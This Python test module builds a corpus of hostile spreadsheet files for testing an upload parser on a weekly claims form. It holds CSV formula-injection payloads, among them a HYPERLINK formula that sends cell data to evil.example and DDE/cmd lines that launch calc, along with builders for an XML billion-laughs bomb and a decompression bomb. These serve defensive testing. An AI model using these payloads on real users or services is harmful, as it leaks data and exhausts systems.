"""How each file of the corpus is made: from a valid claim, so only what is hostile differs.

Built when the corpus runs (a 100 MB file is not kept in git); `python -m tests.corpus.files DIR`
writes every one of them to DIR to open by hand.
"""

from __future__ import annotations

import csv
import io
import os
import random
import sys
import zipfile
from pathlib import Path

from openpyxl import Workbook

from tests.spreadsheets.hostile_files import (
    BILLION_LAUGHS_DTD,
    CLAIM,
    SAMPLES,
    _sheet_xml,
    with_parts,
)

HEADER = ["SS Ref", "Date", "Weekly Actual Quantity", "Weekly Missed Quantity", "Comments"]
WEEK = "09/11/2026"
AS_PLANNED = ["SS1009", WEEK, 5, None, None]
INJECTIONS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    '=DDE("cmd";"/C calc";"A1")',
]


def csv_text(*rows: list[object], delimiter: str = ",") -> str:
    """Rows as a spreadsheet program writes them (a cell holding the separator is quoted)."""
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=delimiter, lineterminator="\n").writerows(
        ["" if cell is None else cell for cell in row] for row in rows
    )
    return buffer.getvalue()


def csv_of(*rows: list[object], encoding: str = "utf-8", delimiter: str = ",") -> bytes:
    return csv_text(*rows, delimiter=delimiter).encode(encoding)


def xlsx_sheets(*sheets: tuple[str, list[list[object]], str], merge: str = "") -> bytes:
    """A workbook of (title, rows, "visible" | "hidden") sheets; `merge` merges cells of the last."""
    workbook = Workbook()
    first = workbook.active
    assert first is not None
    workbook.remove(first)
    for title, rows, state in sheets:
        sheet = workbook.create_sheet(title)
        sheet.sheet_state = state
        for row in rows:
            sheet.append(row)
    if merge:
        sheet.merge_cells(merge)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def xlsx_of(*rows: list[object], title: str = "Claim") -> bytes:
    return xlsx_sheets((title, list(rows), "visible"))


def xlsx_merged(merge: str, *rows: list[object]) -> bytes:
    return xlsx_sheets(("Claim", list(rows), "visible"), merge=merge)


def with_sheet_cells(content: bytes, replacements: dict[bytes, bytes]) -> bytes:
    """An xlsx whose first worksheet's XML has some text replaced (formulas, error cells)."""
    source = zipfile.ZipFile(io.BytesIO(content))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for member in source.infolist():
            part = source.read(member)
            if member.filename == "xl/worksheets/sheet1.xml":
                for old, new in replacements.items():
                    part = part.replace(old, new)
            target.writestr(member.filename, part)
    return buffer.getvalue()


def formula_actual(saved: str | None) -> bytes:
    """Actual is the formula =2+3, saved with its result (5) or without one."""
    content = xlsx_of(HEADER, ["SS1009", WEEK, "=2+3", None, None])
    result = b"<v></v>" if saved is None else f"<v>{saved}</v>".encode()
    return with_sheet_cells(content, {b"<f>2+3</f><v></v>": b"<f>2+3</f>" + result})


def error_cell(error: str) -> bytes:
    content = formula_actual("5")
    return with_sheet_cells(
        content,
        {
            b'<c r="C2"': b'<c r="C2" t="e"',
            b"<f>2+3</f><v>5</v>": f"<f>1/0</f><v>{error}</v>".encode(),
        },
    )


def truncated() -> bytes:
    claim = CLAIM.read_bytes()
    return claim[: len(claim) // 2]


def xml_bomb_after_a_long_comment() -> bytes:
    original = _sheet_xml()
    body = original.split(b"?>", 1)[1] if original.startswith(b"<?xml") else original
    padded = b'<?xml version="1.0"?><!--' + b" padding" * 4000 + b"-->"
    dtd = BILLION_LAUGHS_DTD.split(b"?>", 1)[1]
    return with_parts(replace={"xl/worksheets/sheet1.xml": padded + dtd + body})


def huge_shared_strings() -> bytes:
    """One shared string of 50 MB: compresses to about 50 KB."""
    strings = b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>'
    return with_parts(
        add={"xl/sharedStrings.xml": strings + b"A" * (50 * 1024 * 1024) + b"</t></si></sst>"}
    )


def docx_renamed() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as document:
        document.writestr("[Content_Types].xml", "<Types/>")
        document.writestr("word/document.xml", "<w:document>Our hours this week</w:document>")
    return buffer.getvalue()


def random_bytes(size: int = 4096, seed: int = 7) -> bytes:
    return random.Random(seed).randbytes(size)


def ole2_document(body: bytes) -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504 + body + b"\0" * 1024


def hundred_megabytes() -> bytes:
    row = csv_text(AS_PLANNED).encode()
    return csv_text(HEADER).encode() + row * (100 * 1024 * 1024 // len(row))


def wide_rows() -> bytes:
    header = [*HEADER, *(f"Extra {n}" for n in range(300))]
    return csv_of(header, [*AS_PLANNED, *(["x"] * 300)])


def sample(name: str) -> bytes:
    return (SAMPLES / name).read_bytes()


if __name__ == "__main__":  # python -m tests.corpus.files DIR
    from tests.corpus.manifest import CASES

    folder = Path(sys.argv[1])
    folder.mkdir(parents=True, exist_ok=True)
    for case in CASES:
        if case.name != "a 100 MB csv":
            (folder / f"{case.slug}-{case.filename}").write_bytes(case.build())
    print(f"{len(CASES)} files in {os.fspath(folder)}")
